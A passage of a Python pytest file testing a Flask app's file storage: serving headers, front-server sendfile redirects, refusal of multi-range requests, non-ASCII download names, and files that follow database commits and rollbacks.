    assert Path(value(served)).is_absolute()
    assert body == b""
    assert "Content-Range" not in response.headers
    assert response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"] == "inline; filename=brief.pdf"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert served.completed == []  # the start of the file only: not a download

    with client.get(served.url) as response:
        response.get_data()
    with client.head(served.url) as response:
        response.get_data()
    assert len(served.completed) == 1  # the whole file, counted when handed over; not the probe


def test_the_front_server_gets_files_under_the_configured_prefix(app, client):
    app.config["STORAGE_SENDFILE"] = "x-accel-redirect"
    app.config["STORAGE_ACCEL_PREFIX"] = "/internal/files/"
    served = serve(app, PDF)

    with client.get(served.url) as response:
        assert response.get_data() == b""

    assert response.headers["X-Accel-Redirect"] == f"/internal/files/{served.storage_key}"
    assert "X-Sendfile" not in response.headers


@pytest.mark.parametrize("setting", ["x-accel-redirect", "x-sendfile"])
def test_several_ranges_are_refused_before_the_front_server_is_asked(app, client, setting):
    app.config["STORAGE_SENDFILE"] = setting
    served = serve(app, PDF)

    with client.get(served.url, headers={"Range": "bytes=0-1,4-5"}) as response:
        response.get_data()

    assert response.status_code == 416
    assert response.headers["Content-Range"] == f"bytes */{len(PDF)}"
    assert "X-Accel-Redirect" not in response.headers
    assert "X-Sendfile" not in response.headers
    assert served.completed == []


@pytest.mark.parametrize(
    ("name", "fallback", "encoded"),
    [
        ("Запись вебинара.mp4", "file.mp4", "%D0%97%D0%B0%D0%BF%D0%B8%D1%81%D1%8C%20%D0%B2"),
        ("会议记录.mp4", "file.mp4", "%E4%BC%9A%E8%AE%AE%E8%AE%B0%E5%BD%95.mp4"),
        ("Résumé \u2013 2024.mp4", "Resume 2024.mp4", "R%C3%A9sum%C3%A9%20%E2%80%93%202024.mp4"),
        ("Запись", "file", "%D0%97%D0%B0%D0%BF%D0%B8%D1%81%D1%8C"),
    ],
)
def test_a_non_ascii_download_name_has_a_utf8_name_and_an_ascii_fallback(
    app, name, fallback, encoded
):
    with app.app_context():
        stored = upload(MP4, "recording.mp4")

        with app.test_request_context():
            response = send_stored(stored, download_name=name)
            response.close()

    disposition = response.headers["Content-Disposition"]
    assert disposition.isascii()
    assert disposition.startswith("attachment; ")
    assert f"filename*=UTF-8''{encoded}" in disposition
    plain = re.search(r'; filename=("[^"]*"|[^;]*)', disposition)
    assert plain, disposition
    assert plain.group(1).strip('"') == fallback  # never ".mp4", a hidden file


# Files follow the transaction that holds their rows.
def test_an_upload_whose_transaction_is_committed_stays(app):
    with app.app_context():
        stored = upload(PDF, "brief.pdf")
        path = path_of(stored)
        db.session.commit()
        stored_id = stored.id

    with app.app_context():
        assert path.read_bytes() == PDF
        assert db.session.get(StoredFile, stored_id).storage_key in path.as_posix()


def test_an_upload_whose_transaction_is_rolled_back_leaves_nothing(app):
    with app.app_context():
        upload(PDF, "brief.pdf")
        db.session.rollback()

        assert files_in_storage(app) == []
        assert stored_rows() == []


def test_an_upload_in_a_request_that_fails_before_its_commit_leaves_nothing(app):
    with app.app_context():
        upload(PDF, "brief.pdf")  # the view raises before it commits

    assert files_in_storage(app) == []


def test_a_failure_to_record_the_upload_removes_its_file(app, app_context, monkeypatch):
    def broken_flush(*args, **kwargs):
        raise RuntimeError("database went away")

    monkeypatch.setattr(db.session, "flush", broken_flush)

    with pytest.raises(RuntimeError):
        upload(PDF, "brief.pdf")

    assert files_in_storage(app) == []


def test_a_deleted_file_goes_once_the_deletion_is_committed(app):
    with app.app_context():
        stored = upload(PDF, "brief.pdf")
        path = path_of(stored)
        db.session.commit()

        delete_stored(stored)

        assert stored_rows() == []
        assert path.exists()  # until the commit
        db.session.commit()

        assert not path.exists()
        assert files_in_storage(app) == []


def test_a_deletion_that_is_rolled_back_keeps_the_file(app):
    with app.app_context():
        stored = upload(PDF, "brief.pdf")
        path = path_of(stored)
        db.session.commit()

        delete_stored(stored)
        db.session.rollback()

        assert path.read_bytes() == PDF
        assert len(stored_rows()) == 1


def test_deleting_a_file_already_gone_from_disk_is_fine(app):
    with app.app_context():
        stored = upload(PDF, "brief.pdf")
        db.session.commit()
        path_of(stored).unlink()

        delete_stored(stored)
        db.session.commit()

        assert stored_rows() == []
